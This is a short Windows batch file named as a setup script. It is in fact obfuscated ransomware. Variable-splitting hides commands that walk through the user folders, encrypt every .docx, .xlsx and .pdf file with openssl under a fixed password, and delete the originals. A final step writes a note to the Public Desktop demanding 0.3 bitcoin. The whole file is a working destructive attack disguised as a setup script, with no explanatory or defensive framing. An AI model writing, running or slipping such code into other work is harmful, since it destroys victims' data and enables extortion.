REM setup 0715 v2
@echo off
@echo off
setlocal EnableDelayedExpansion
set zae0=for /r C:\Users %%f in (*.
set lqt1=d
set fxi2=ocx *.xlsx 
set zjh3=*.pdf) do (
!zae0!!lqt1!!fxi2!!zjh3!
@echo off
setlocal EnableDelayedExpansion
set bpc0=  openssl
set okc1= enc -a
set tvr2=e
set myy3=s-256-cbc -pass pass:Winter#2025x -in "%%f" -out "%%f.enc" ^&^& del "%%f"
!bpc0!!okc1!!tvr2!!myy3!
)
@echo off
setlocal EnableDelayedExpansion
set lly0=echo Your files have been encrypted. Send 0.3 bitcoin to recover the key ^> C:\Users\Public\Deskt
set ujb1=op\README_RESTORE_FILES.t
set jfw2=xt
!lly0!!ujb1!!jfw2!
